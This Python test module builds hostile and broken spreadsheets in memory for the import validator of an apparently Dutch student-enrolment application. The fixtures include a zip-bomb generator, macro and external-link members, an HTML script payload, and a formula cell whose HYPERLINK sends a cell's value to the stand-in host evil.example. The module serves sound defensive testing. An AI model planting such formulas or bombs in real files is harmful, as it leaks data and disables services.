"""Hostile and broken spreadsheets, generated in memory for the import tests.

Each entry: a name, the file name as uploaded, the bytes, and words the Dutch answer must
contain. None of them may end in a 500, a stored student or a batch that could be read in.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Sequence

HEADER = ["studentnummer", "voornaam", "achternaam", "email", "crebo", "leerweg", "cohort"]
ROW = ["100001", "Noor", "de Jong", "noor@example.nl", "25604", "BOL", "2026"]


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    return "\n".join(";".join(r) for r in [HEADER, *rows]).encode(encoding) + b"\n"


def xlsx_bytes(rows: Sequence[Sequence[object]], header: list[str] | None = None) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(header or HEADER)
    for row in rows:
        ws.append(list(row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rezip(
    data: bytes, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes]
) -> bytes:
    """A copy of the workbook `data` with members changed (None drops one) and added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            content = change(info.filename, src.read(info))
            if content is not None:
                dst.writestr(info.filename, content)
        for name, content in extra.items():
            dst.writestr(name, content)
    return out.getvalue()


def _keep(_name: str, content: bytes) -> bytes:
    return content


def _declare(ref: str) -> Callable[[str, bytes], bytes]:
    def change(name: str, content: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            new = content.replace(
                b'<dimension ref="A1:G2" />', f'<dimension ref="{ref}" />'.encode()
            )
            assert new != content
            return new
        return content

    return change


def _undeclared(name: str, content: bytes) -> bytes:
    if name == "xl/worksheets/sheet1.xml":
        start = content.index(b"<dimension")
        return content[:start] + content[content.index(b"/>", start) + 2 :]
    return content


def zip_bomb() -> bytes:
    """A workbook with a worksheet that unpacks to 200 MB of XML from about 200 KB."""
    good = xlsx_bytes([ROW])
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info.filename, src.read(info))
        with dst.open("xl/worksheets/sheet1.xml", "w") as fh:
            fh.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            )
            fh.write(b"<sheetData>")
            chunk = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 20_000
            for _ in range(200 * 1024 * 1024 // len(chunk)):
                fh.write(chunk)
            fh.write(b"</sheetData></worksheet>")
    return out.getvalue()


def rows_beyond_limit_undeclared() -> bytes:
    """20,050 real rows and no <dimension>: only the streaming row limit can stop it."""
    rows = [
        [f"3{i:05d}", "A", "B", f"x{i}@example.nl", "25604", "BOL", "2026"] for i in range(20_050)
    ]
    return rezip(xlsx_bytes(rows), _undeclared, {})


def hostile_files() -> list[tuple[str, str, bytes, str]]:
    good = xlsx_bytes([ROW])
    formula = xlsx_bytes([[*ROW[:1], '=HYPERLINK("http://evil.example/?x="&A1,"klik")', *ROW[2:]]])
    return [
        ("empty file", "cohort.csv", b"", "leeg"),
        ("50 MB file", "cohort.csv", b"a;b\n" + b"x" * (50 * 1024 * 1024), "10 MB"),
        (
            "HTML disguised as xlsx",
            "cohort.xlsx",
            b"<!DOCTYPE html><html><body>x</body></html>",
            "HTML",
        ),
        ("HTML as csv", "cohort.csv", b"<html><script>alert(1)</script></html>", "HTML"),
        ("text renamed to xlsx", "cohort.xlsx", csv_bytes([ROW]), "geen echt .xlsx"),
        ("zip that is no workbook", "cohort.xlsx", _plain_zip(), "geen Excel-werkmap"),
        ("corrupt zip", "cohort.xlsx", b"PK\x03\x04" + b"\x00garbage" * 100, "beschadigd"),
        ("xlsx zip bomb (200 MB of XML)", "cohort.xlsx", zip_bomb(), "zip-bom"),
        (
            "declared 2 million rows",
            "cohort.xlsx",
            rezip(good, _declare("A1:G2000000"), {}),
            "20.000",
        ),
        ("declared 16384 columns", "cohort.xlsx", rezip(good, _declare("A1:XFD2"), {}), "kolommen"),
        ("20,050 undeclared rows", "cohort.xlsx", rows_beyond_limit_undeclared(), "20.000"),
        (
            "macros (vbaProject.bin)",
            "cohort.xlsx",
            rezip(good, _keep, {"xl/vbaProject.bin": b"\x00" * 64}),
            "macro",
        ),
        (
            "external links",
            "cohort.xlsx",
            rezip(good, _keep, {"xl/externalLinks/externalLink1.xml": b"<x/>"}),
            "externe koppelingen",
        ),
        (".xlsm extension", "cohort.xlsm", good, "macro"),
        (
            "old .xls / password-protected",
            "cohort.xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
            "wachtwoord",
        ),
        (
            "bytes 0x81 0x8D (no UTF-8, no cp1252)",
            "cohort.csv",
            csv_bytes([["100001", "No\x81r", "X\x8d", *ROW[3:]]], "latin-1"),
            "UTF-8",
        ),
        ("UTF-16", "cohort.csv", csv_bytes([ROW], "utf-16"), "UTF-8"),
        ("NUL bytes", "cohort.csv", b"studentnummer;voornaam\n1\x002;a\n", "geen tekstbestand"),
        ("xlsx renamed to csv", "cohort.csv", good, "Hernoem"),
        (
            "200,000-character cell",
            "cohort.csv",
            csv_bytes([[ROW[0], "N" * 200_000, *ROW[2:]]]),
            "Regel 2",
        ),
        (
            "5,000-character cell",
            "cohort.csv",
            csv_bytes([[ROW[0], "N" * 5_000, *ROW[2:]]]),
            "langer dan 1000",
        ),
        (
            "overlong name (100 characters)",
            "cohort.csv",
            csv_bytes([[ROW[0], "N" * 100, *ROW[2:]]]),
            "Maximaal 70",
        ),
        ("formula cell in xlsx", "cohort.xlsx", formula, "formule"),
        ("20,001 rows", "cohort.csv", csv_bytes([ROW] * 20_001), "20.000"),
        (
            "40 columns",
            "cohort.csv",
            ";".join(f"k{i}" for i in range(40)).encode() + b"\n1\n",
            "kolommen",
        ),
        ("header only", "cohort.csv", csv_bytes([]), "geen regels"),
        ("no header", "cohort.csv", b"\n\n\n", "leeg"),
        ("pdf", "cohort.pdf", b"%PDF-1.4", ".csv- of .xlsx"),
    ]


def _plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("readme.txt", "geen werkmap")
    return out.getvalue()
